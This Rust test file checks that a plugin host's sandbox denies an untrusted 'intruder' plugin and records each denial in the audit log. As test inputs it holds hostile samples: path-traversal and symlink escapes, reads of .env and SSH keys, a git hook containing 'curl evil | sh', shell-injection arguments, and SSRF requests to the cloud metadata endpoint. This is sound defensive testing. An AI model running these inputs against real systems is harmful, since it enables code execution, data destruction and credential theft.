//! The security suite: an untrusted workflow step (`intruder`) tries to get out of
//! its grant through every capability. Each case asserts the exact denial (code,
//! deciding rule) and that nothing changed on disk; the audit trail records every
//! decision and stays intact.

use std::collections::BTreeMap;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use ralex_caps::workspace::{Workspace, WorkspaceLimits};
use ralex_host::calls::step::StepInput;
use ralex_host::{CallContext, Host, Plugin, WriteJournal};
use ralex_store::{AuditFilter, Store};
use serde_json::{Value, json};

use crate::support::staged;

/// The grant a team would write for this workflow step: everything, so what is
/// refused is refused by the manifest, the default forbids or the providers.
const GRANT: &str = "permit (principal == Ralex::Plugin::\"intruder\", action, resource);";

/// Replaces the shipped exec.cedar for these tests: `echo`, `env` and `ls` are
/// listed (so metacharacter and environment cases reach the runner).
const EXEC_POLICY: &str = "@id(\"exec-only-listed-programs\")\n\
@reason(\"test list\")\n\
forbid (principal, action == Ralex::Action::\"exec:run\", resource is Ralex::Program)\n\
unless { [\"cargo\", \"echo\", \"env\", \"ls\"].contains(resource.name) };\n\
@id(\"no-shells\")\n\
@reason(\"shells never run\")\n\
forbid (principal, action == Ralex::Action::\"exec:run\", resource is Ralex::Program)\n\
when { [\"sh\", \"bash\"].contains(resource.name) };\n";

struct Lab {
    host: Host,
    plugin: Plugin,
    store: Arc<Store>,
    _dir: tempfile::TempDir,
    sandbox: tempfile::TempDir,
    root: PathBuf,
    journal: Arc<WriteJournal>,
    context: CallContext,
}

fn git(root: &Path, args: &[&str]) {
    let status = std::process::Command::new("git")
        .args(args)
        .current_dir(root)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@t")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@t")
        .status()
        .unwrap();
    assert!(status.success(), "git {args:?}");
}

impl Lab {
    fn new() -> Lab {
        Lab::with_grant(GRANT)
    }

    fn with_grant(grant: &str) -> Lab {
        Lab::build(grant, false)
    }

    fn build(grant: &str, private_network: bool) -> Lab {
        let dir = tempfile::tempdir().unwrap();
        let sandbox = tempfile::tempdir().unwrap();
        let root = sandbox.path().join("proj");
        std::fs::create_dir_all(root.join("src")).unwrap();
        std::fs::create_dir_all(root.join("keys")).unwrap();
        std::fs::write(root.join("src/app.py"), "def app():\n    return 1\n").unwrap();
        std::fs::write(root.join(".env"), "API_KEY=sk-live-123\n").unwrap();
        std::fs::write(root.join("keys/id_rsa"), "PRIVATE KEY\n").unwrap();
        std::fs::write(root.join("README.md"), "# proj\nAPI_KEY lives in .env\n").unwrap();
        std::fs::write(sandbox.path().join("outside.txt"), "OUTSIDE-SECRET").unwrap();
        std::fs::create_dir_all(sandbox.path().join("outdir")).unwrap();
        std::os::unix::fs::symlink(sandbox.path().join("outdir"), root.join("src/linkout"))
            .unwrap();
        std::os::unix::fs::symlink(sandbox.path().join("outside.txt"), root.join("link-file"))
            .unwrap();
        std::fs::hard_link(
            sandbox.path().join("outside.txt"),
            root.join("src/hard.txt"),
        )
        .unwrap();
        git(&root, &["init", "-q", "-b", "main"]);
        std::fs::write(root.join(".gitignore"), "").unwrap();
        git(&root, &["add", "src/app.py", "README.md", ".gitignore"]);
        git(&root, &["commit", "-q", "-m", "init"]);

        let policy_files = ralex_policy::merge_files(
            ralex_policy::default_files(),
            vec![
                ralex_policy::PolicyFile {
                    name: "grants/intruder.cedar".into(),
                    origin: "grants/intruder.cedar".into(),
                    text: grant.into(),
                },
                ralex_policy::PolicyFile {
                    name: "exec.cedar".into(),
                    origin: "exec.cedar".into(),
                    text: EXEC_POLICY.into(),
                },
            ],
        );
        let store = Arc::new(Store::open(&dir.path().join("ralex.db")).unwrap());
        let config = ralex_host::HostConfig {
            policy: Arc::new(ralex_policy::Policy::load(&policy_files).unwrap()),
            private_network: if private_network {
                vec!["intruder".to_string()]
            } else {
                Vec::new()
            },
            ..ralex_host::HostConfig::new(dir.path().join("cache"))
        };
        let host = Host::new(config, Arc::clone(&store)).unwrap();
        let plugin = host
            .load(&staged("test-plugins", "intruder").join("plugin.toml"))
            .unwrap();
        let workspace = Arc::new(Workspace::open(&root, WorkspaceLimits::default()).unwrap());
        let journal = Arc::new(WriteJournal::new());
        let context = CallContext {
            workspace: Some(workspace),
            journal: Some(Arc::clone(&journal)),
            git: Some(Arc::new(Mutex::new(ralex_git::Repo::open(&root).unwrap()))),
            egress: Some(Arc::new(
                ralex_net::Egress::new(ralex_net::Limits::default()).unwrap(),
            )),
            runner: Some(Arc::new(ralex_exec::Runner::new(
                root.clone(),
                ralex_exec::Limits::default(),
                ralex_exec::Sandbox::None,
            ))),
            ..CallContext::default()
        };
        Lab {
            host,
            plugin,
            store,
            _dir: dir,
            sandbox,
            root,
            journal,
            context,
        }
    }

    async fn call_with(&self, context: CallContext, params: Value) -> Value {
        let out = self
            .host
            .run_step(
                &self.plugin,
                context,
                StepInput {
                    name: "probe".into(),
                    params_json: params.to_string(),
                    previous_json: "{}".into(),
                },
            )
            .await
            .expect("the step reports")
            .value;
        serde_json::from_str(&out.output_json).unwrap()
    }

    async fn call(&self, params: Value) -> Value {
        self.call_with(self.context.clone(), params).await
    }

    /// Every file under the sandbox (project and outside), with content and
    /// mode — `.git/objects` and `.git/logs` excluded (reads may pack them).
    fn tree(&self) -> BTreeMap<String, (Vec<u8>, u32)> {
        let mut out = BTreeMap::new();
        walk(self.sandbox.path(), self.sandbox.path(), &mut out);
        out
    }

    fn last_audit(&self) -> ralex_store::AuditEntry {
        self.store
            .audit_entries(&AuditFilter {
                limit: Some(1),
                ..AuditFilter::default()
            })
            .unwrap()
            .pop()
            .expect("an audit entry")
    }
}

fn walk(base: &Path, dir: &Path, out: &mut BTreeMap<String, (Vec<u8>, u32)>) {
    use std::os::unix::fs::PermissionsExt;
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let rel = path
            .strip_prefix(base)
            .unwrap()
            .to_string_lossy()
            .to_string();
        if rel.ends_with(".git/objects")
            || rel.ends_with(".git/logs")
            || rel.ends_with(".git/index")
        {
            continue;
        }
        let meta = std::fs::symlink_metadata(&path).unwrap();
        if meta.file_type().is_symlink() {
            let target = std::fs::read_link(&path).unwrap();
            out.insert(rel, (target.to_string_lossy().as_bytes().to_vec(), 0));
        } else if meta.is_dir() {
            out.insert(rel.clone(), (Vec::new(), meta.permissions().mode()));
            walk(base, &path, out);
        } else {
            out.insert(
                rel,
                (std::fs::read(&path).unwrap(), meta.permissions().mode()),
            );
        }
    }
}

/// Asserts a denial with `code` whose message contains `needle`, that the disk is
/// unchanged, and that nothing from outside the root leaked into the answer.
async fn refused(lab: &Lab, params: Value, code: &str, needle: &str) -> Value {
    let before = lab.tree();
    let out = lab.call(params.clone()).await;
    let error = out
        .get("error")
        .unwrap_or_else(|| panic!("{params} was allowed: {out}"));
    assert_eq!(error["code"], code, "{params}: {out}");
    let message = error["message"].as_str().unwrap();
    assert!(
        message.contains(needle),
        "{params}: `{message}` lacks `{needle}`"
    );
    assert!(!out.to_string().contains("OUTSIDE-SECRET"), "{out}");
    assert!(!out.to_string().contains("sk-live-123"), "{out}");
    assert!(
        !message.contains(lab.root.to_str().unwrap()),
        "host path leaked: {message}"
    );
    assert_eq!(before, lab.tree(), "{params} changed the disk");
    assert!(lab.journal.changes().is_empty(), "{params} was journaled");
    out
}

// --- reads -----------------------------------------------------------------

#[tokio::test]
async fn reads_cannot_leave_the_root_or_reach_secrets() {
    let lab = Lab::new();
    refused(
        &lab,
        json!({"op": "read", "path": "../outside.txt"}),
        "Denied",
        "",
    )
    .await;
    refused(
        &lab,
        json!({"op": "read", "path": "/etc/passwd"}),
        "Denied",
        "",
    )
    .await;
    refused(
        &lab,
        json!({"op": "read", "path": "link-file"}),
        "Denied",
        "",
    )
    .await;
    // `..` is resolved inside the root: this names `<root>/outside.txt`, which is not there.
    refused(
        &lab,
        json!({"op": "read", "path": "src/linkout/../../outside.txt"}),
        "NotFound",
        "does not exist in the project",
    )
    .await;
    refused(
        &lab,
        json!({"op": "read", "path": ".env"}),
        "Denied",
        "no-secret-reads",
    )
    .await;
    refused(
        &lab,
        json!({"op": "read", "path": "keys/id_rsa"}),
        "Denied",
        "no-secret-reads",
    )
    .await;
    refused(
        &lab,
        json!({"op": "read", "path": "./keys/../.env"}),
        "Denied",
        "no-secret-reads",
    )
    .await;
    let ok = lab.call(json!({"op": "read", "path": "src/app.py"})).await;
    assert_eq!(ok["ok"], "def app():\n    return 1\n");
}

#[tokio::test]
async fn listings_and_searches_never_show_secrets() {
    let lab = Lab::new();
    let listed = lab.call(json!({"op": "list", "path": ""})).await;
    let names: Vec<&str> = listed["ok"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(names.contains(&"src/app.py"), "{names:?}");
    assert!(
        !names
            .iter()
            .any(|n| n.contains(".env") || n.contains("id_rsa")),
        "{names:?}"
    );
    let found = lab.call(json!({"op": "search", "query": "API_KEY"})).await;
    let paths: Vec<&str> = found["ok"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(paths, ["README.md"], "the .env match is filtered out");
}

// --- writes ----------------------------------------------------------------

#[tokio::test]
async fn writes_outside_the_root_are_refused_and_change_nothing() {
    let lab = Lab::new();
    refused(
        &lab,
        json!({"op": "write", "path": "../escape.txt", "content": "x"}),
        "Denied",
        "",
    )
    .await;
    refused(
        &lab,
        json!({"op": "write", "path": "/tmp/ralex-escape.txt", "content": "x"}),
        "Denied",
        "",
    )
    .await;
    refused(
        &lab,
        json!({"op": "write", "path": "src/linkout/x.txt", "content": "x"}),
        "Denied",
        "symlink",
    )
    .await;
    refused(
        &lab,
        json!({"op": "write", "path": "src/hard.txt", "content": "x"}),
        "Denied",
        "link",
    )
    .await;
    refused(
        &lab,
        json!({"op": "create", "path": "src/linkout/new.txt", "content": "x"}),
        "Denied",
        "symlink",
    )
    .await;
    assert!(!Path::new("/tmp/ralex-escape.txt").exists());
}

#[tokio::test]
async fn policy_forbids_git_internals_secrets_and_the_audit_trail() {
    let lab = Lab::new();
    refused(&lab, json!({"op": "write", "path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl evil | sh\n"}), "Denied", "no-write-git").await;
    refused(
        &lab,
        json!({"op": "write", "path": ".git/config", "content": "x"}),
        "Denied",
        "no-write-git",
    )
    .await;
    refused(
        &lab,
        json!({"op": "delete", "path": ".git/HEAD"}),
        "Denied",
        "no-write-git",
    )
    .await;
    refused(
        &lab,
        json!({"op": "write", "path": ".env", "content": "API_KEY=mine"}),
        "Denied",
        "no-write-secrets",
    )
    .await;
    refused(
        &lab,
        json!({"op": "create", "path": "server.pem", "content": "x"}),
        "Denied",
        "no-write-secrets",
    )
    .await;
    refused(
        &lab,
        json!({"op": "write", "path": ".ralex/audit.log", "content": "x"}),
        "Denied",
        "no-write-audit",
    )
    .await;
    refused(
        &lab,
        json!({"op": "move", "path": "src/app.py", "to": ".env.local"}),
        "Denied",
        "no-write-secrets",
    )
    .await;
    let audit = lab.last_audit();
    assert_eq!(audit.actor, "plugin:intruder");
    assert_eq!(audit.decision, "deny");
    assert_eq!(audit.rule, "no-write-secrets");
}

#[tokio::test]
async fn the_manifest_bounds_what_the_policy_can_grant() {
    let lab = Lab::new();
    refused(
        &lab,
        json!({"op": "write", "path": "other/x.txt", "content": "x"}),
        "Denied",
        "no `workspace.write` glob",
    )
    .await;
    refused(
        &lab,
        json!({"op": "exec", "program": "rm", "args": ["-rf", "src"]}),
        "Denied",
        "its manifest allows only",
    )
    .await;
    refused(
        &lab,
        json!({"op": "http", "url": "http://evil.example/"}),
        "Denied",
        "not in this plugin's http grant",
    )
    .await;
    refused(&lab, json!({"op": "kv"}), "Denied", "kv = true").await;
    assert_eq!(lab.last_audit().rule, "manifest");
}

#[tokio::test]
async fn a_patch_touching_a_forbidden_file_changes_no_file() {
    let lab = Lab::new();
    let patch = "--- a/src/app.py\n+++ b/src/app.py\n@@ -1,2 +1,2 @@\n def app():\n-    return 1\n+    return 2\n\
--- a/.git/config\n+++ b/.git/config\n@@ -1 +1 @@\n-x\n+y\n";
    refused(
        &lab,
        json!({"op": "patch", "patch": patch}),
        "Denied",
        "no-write-git",
    )
    .await;
}

#[tokio::test]
async fn allowed_writes_are_journaled_and_audited() {
    let lab = Lab::new();
    let out = lab.call(json!({"op": "replace", "path": "src/app.py", "search": "return 1", "replace": "return 2"})).await;
    assert_eq!(out, json!({"ok": null}));
    assert_eq!(
        std::fs::read_to_string(lab.root.join("src/app.py")).unwrap(),
        "def app():\n    return 2\n"
    );
    let changes = lab.journal.changes();
    assert_eq!(changes.len(), 1);
    assert_eq!(changes[0].path, "src/app.py");
    let audit = lab.last_audit();
    assert_eq!(
        (audit.action.as_str(), audit.decision.as_str()),
        ("workspace:write", "allow")
    );
    assert_eq!(audit.rule, "grants/intruder.cedar:1");
    assert!(
        !audit.detail.contains("return 2"),
        "arguments are digested, not stored"
    );
    assert_eq!(audit.args_digest.len(), 64);
}

#[tokio::test]
async fn writes_without_a_journal_are_refused() {
    let lab = Lab::new();
    let context = CallContext {
        journal: None,
        ..lab.context.clone()
    };
    let before = lab.tree();
    let out = lab
        .call_with(
            context,
            json!({"op": "create", "path": "src/new.py", "content": "x"}),
        )
        .await;
    assert_eq!(out["error"]["code"], "Unavailable", "{out}");
    assert!(
        out["error"]["message"]
            .as_str()
            .unwrap()
            .contains("could not be undone")
    );
    assert_eq!(before, lab.tree());
}

#[tokio::test]
async fn a_failed_snapshot_hook_refuses_the_first_write() {
    let lab = Lab::new();
    let journal = Arc::new(WriteJournal::with_hook(Box::new(
        || Err("disk full".into()),
    )));
    let context = CallContext {
        journal: Some(journal),
        ..lab.context.clone()
    };
    let before = lab.tree();
    let out = lab
        .call_with(
            context,
            json!({"op": "write", "path": "src/app.py", "content": "x"}),
        )
        .await;
    assert!(
        out["error"]["message"]
            .as_str()
            .unwrap()
            .contains("undo snapshot"),
        "{out}"
    );
    assert_eq!(before, lab.tree());
}

// --- exec ------------------------------------------------------------------

#[tokio::test]
async fn exec_refuses_shells_and_unlisted_programs() {
    let lab = Lab::new();
    refused(
        &lab,
        json!({"op": "exec", "program": "bash", "args": ["-c", "touch pwned"]}),
        "Denied",
        "no-shells",
    )
    .await;
    refused(
        &lab,
        json!({"op": "exec", "program": "sh", "args": ["-c", "touch pwned"]}),
        "Denied",
        "no-shells",
    )
    .await;
    refused(
        &lab,
        json!({"op": "exec", "program": "python3", "args": ["-c", "open('pwned','w')"]}),
        "Denied",
        "exec-only-listed-programs",
    )
    .await;
    refused(
        &lab,
        json!({"op": "exec", "program": "/bin/echo", "args": ["x"]}),
        "Denied",
        "its manifest allows only",
    )
    .await;
    refused(
        &lab,
        json!({"op": "exec", "program": "cargo", "args": ["publish"]}),
        "Denied",
        "its manifest allows only",
    )
    .await;
    assert!(!lab.root.join("pwned").exists());
}

#[tokio::test]
async fn shell_metacharacters_stay_literal() {
    let lab = Lab::new();
    let before = lab.tree();
    let out = lab.call(json!({"op": "exec", "program": "echo", "args": ["a; touch pwned", "$(touch pwned2)", "`touch pwned3`", "| rm -rf ."]})).await;
    assert_eq!(
        out["ok"]["stdout"], "a; touch pwned $(touch pwned2) `touch pwned3` | rm -rf .\n",
        "{out}"
    );
    assert_eq!(before, lab.tree());
}

#[tokio::test]
async fn exec_cannot_escape_the_project_directory() {
    let lab = Lab::new();
    refused(
        &lab,
        json!({"op": "exec", "program": "ls", "args": [], "cwd": ".."}),
        "Denied",
        "",
    )
    .await;
    refused(
        &lab,
        json!({"op": "exec", "program": "ls", "args": [], "cwd": "src/linkout"}),
        "Denied",
        "",
    )
    .await;
}

#[tokio::test]
async fn the_environment_holds_no_secrets() {
    let lab = Lab::new();
    let out = lab
        .call(json!({"op": "exec", "program": "env", "args": []}))
        .await;
    let env = out["ok"]["stdout"].as_str().unwrap();
    for line in env.lines() {
        let name = line.split('=').next().unwrap().to_uppercase();
        assert!(
            !["KEY", "TOKEN", "SECRET", "PASSWORD"]
                .iter()
                .any(|s| name.contains(s))
                && !name.starts_with("RALEX_"),
            "leaked {name}"
        );
    }
    assert!(env.contains("PATH="), "{env}");
}

// --- http ------------------------------------------------------------------

#[tokio::test]
async fn ssrf_to_internal_addresses_is_refused_before_connecting() {
    let lab = Lab::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    for url in [
        format!("http://127.0.0.1:{port}/"),
        format!("http://localhost:{port}/"),
        format!("http://[::1]:{port}/"),
        "http://10.0.0.1/".to_string(),
    ] {
        refused(&lab, json!({"op": "http", "url": url}), "Denied", "").await;
        if listener.accept().is_ok() {
            hits.fetch_add(1, Ordering::SeqCst);
        }
    }
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "a request reached the loopback server"
    );
    refused(
        &lab,
        json!({"op": "http", "url": "http://169.254.169.254/latest/meta-data/"}),
        "Denied",
        "no-cloud-metadata",
    )
    .await;
}

#[tokio::test]
async fn a_private_host_is_reachable_only_when_granted_by_name() {
    // A real loopback server, on the port the intruder's manifest names.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:18931")
        .await
        .unwrap();
    let port = 18931;
    tokio::spawn(async move {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        while let Ok((mut socket, _)) = listener.accept().await {
            let mut buf = [0u8; 1024];
            let _ = socket.read(&mut buf).await;
            let _ = socket
                .write_all(
                    b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\nconnection: close\r\n\r\nlocal",
                )
                .await;
        }
    });
    let url = format!("http://127.0.0.1:{port}/");
    // Without `private_network` the manifest's exact host is still refused.
    refused(
        &Lab::new(),
        json!({"op": "http", "url": url}),
        "Denied",
        "loopback",
    )
    .await;
    // With it, the exact host the manifest names is reachable...
    let lab = Lab::build(GRANT, true);
    let out = lab.call(json!({"op": "http", "url": url})).await;
    assert_eq!(out["ok"]["body"], "local", "{out}");
    // ...but the metadata endpoint stays forbidden by policy.
    refused(
        &lab,
        json!({"op": "http", "url": "http://169.254.169.254/"}),
        "Denied",
        "no-cloud-metadata",
    )
    .await;
}

// --- mcp -------------------------------------------------------------------

/// The real MCP server `ralex-mcp` builds for its tests (rmcp over stdio).
fn echo_server() -> PathBuf {
    let path = crate::support::target_debug().join("ralex-mcp-echo-server");
    assert!(
        path.is_file(),
        "{} is missing: build it with `cargo build -p ralex-mcp` (`cargo test --workspace` does)",
        path.display()
    );
    path
}

#[tokio::test]
async fn mcp_calls_go_to_listed_servers_only_and_are_audited() {
    let lab = Lab::with_grant(
        "permit (principal == Ralex::Plugin::\"intruder\", action, resource)\n\
         unless { resource is Ralex::McpTool && resource.tool == \"add\" };",
    );
    let hub = ralex_mcp::McpHub::new(
        vec![
            ralex_mcp::ServerConfig::new("echo", echo_server().display().to_string()),
            ralex_mcp::ServerConfig::new("other", echo_server().display().to_string()),
        ],
        ralex_mcp::Limits::default(),
    )
    .unwrap();
    let context = CallContext {
        mcp: Some(Arc::new(hub)),
        ..lab.context.clone()
    };
    // Only the manifest's server, only the tools the policy allows.
    let listed = lab
        .call_with(context.clone(), json!({"op": "mcp-list"}))
        .await;
    let tools: Vec<&str> = listed["ok"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(tools.contains(&"echo/echo"), "{tools:?}");
    assert!(!tools.contains(&"echo/add"), "{tools:?}");
    assert!(!tools.iter().any(|t| t.starts_with("other/")), "{tools:?}");
    let out = lab
        .call_with(context.clone(), json!({"op": "mcp-call", "server": "echo", "tool": "echo", "arguments": "{\"text\":\"hi\"}"}))
        .await;
    assert!(out["ok"].as_str().unwrap().contains("hi"), "{out}");
    assert_eq!(lab.last_audit().action, "mcp:call");
    let out = lab
        .call_with(context.clone(), json!({"op": "mcp-call", "server": "echo", "tool": "add", "arguments": "{\"a\":1,\"b\":2}"}))
        .await;
    assert_eq!(out["error"]["code"], "Denied", "{out}");
    assert_eq!(lab.last_audit().rule, "default-deny");
    let out = lab
        .call_with(
            context,
            json!({"op": "mcp-call", "server": "other", "tool": "echo", "arguments": "{}"}),
        )
        .await;
    assert_eq!(out["error"]["code"], "Denied", "{out}");
    assert!(
        out["error"]["message"]
            .as_str()
            .unwrap()
            .contains("does not list this server"),
        "{out}"
    );
}

// --- git, model, default deny, audit ---------------------------------------

#[tokio::test]
async fn git_reads_work_but_force_push_and_secret_diffs_are_refused() {
    let lab = Lab::new();
    std::fs::write(lab.root.join("src/app.py"), "changed\n").unwrap();
    let status = lab.call(json!({"op": "git-status"})).await;
    assert!(
        status["ok"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s == " M src/app.py"),
        "{status}"
    );
    refused(
        &lab,
        json!({"op": "git-push", "force": true}),
        "Denied",
        "no-plugin-force-push",
    )
    .await;
    refused(
        &lab,
        json!({"op": "git-diff", "paths": [".env"]}),
        "Denied",
        "no-secret-reads",
    )
    .await;
}

#[tokio::test]
async fn a_model_call_is_decided_and_audited_before_the_backend() {
    let lab = Lab::new();
    let out = lab
        .call(json!({"op": "model", "model": "gpt-4.1-mini"}))
        .await;
    assert_eq!(out["error"]["code"], "Unavailable", "{out}");
    assert!(
        out["error"]["message"]
            .as_str()
            .unwrap()
            .contains("no model is configured")
    );
    let audit = lab.last_audit();
    assert_eq!(
        (audit.action.as_str(), audit.decision.as_str()),
        ("model:call", "allow")
    );
}

#[tokio::test]
async fn without_a_grant_an_untrusted_step_gets_nothing() {
    let lab = Lab::with_grant("// no grant\n");
    refused(
        &lab,
        json!({"op": "read", "path": "src/app.py"}),
        "Denied",
        "no policy permits plugin `intruder`",
    )
    .await;
    refused(
        &lab,
        json!({"op": "write", "path": "src/app.py", "content": "x"}),
        "Denied",
        "no policy permits",
    )
    .await;
    refused(
        &lab,
        json!({"op": "exec", "program": "echo", "args": ["x"]}),
        "Denied",
        "no policy permits",
    )
    .await;
    assert_eq!(lab.last_audit().rule, "default-deny");
}

#[tokio::test]
async fn every_decision_is_in_an_intact_audit_chain() {
    let lab = Lab::new();
    lab.call(json!({"op": "read", "path": "src/app.py"})).await;
    lab.call(json!({"op": "read", "path": ".env"})).await;
    lab.call(json!({"op": "write", "path": ".git/config", "content": "x"}))
        .await;
    let entries = lab.store.audit_entries(&AuditFilter::default()).unwrap();
    let decisions: Vec<(&str, &str)> = entries
        .iter()
        .map(|e| (e.action.as_str(), e.decision.as_str()))
        .collect();
    assert_eq!(
        decisions,
        [
            ("workspace:read", "allow"),
            ("workspace:read", "deny"),
            ("workspace:write", "deny")
        ]
    );
    assert!(entries.iter().all(|e| !e.detail.contains("sk-live-123")));
    assert!(lab.store.audit_verify().unwrap().intact());
}
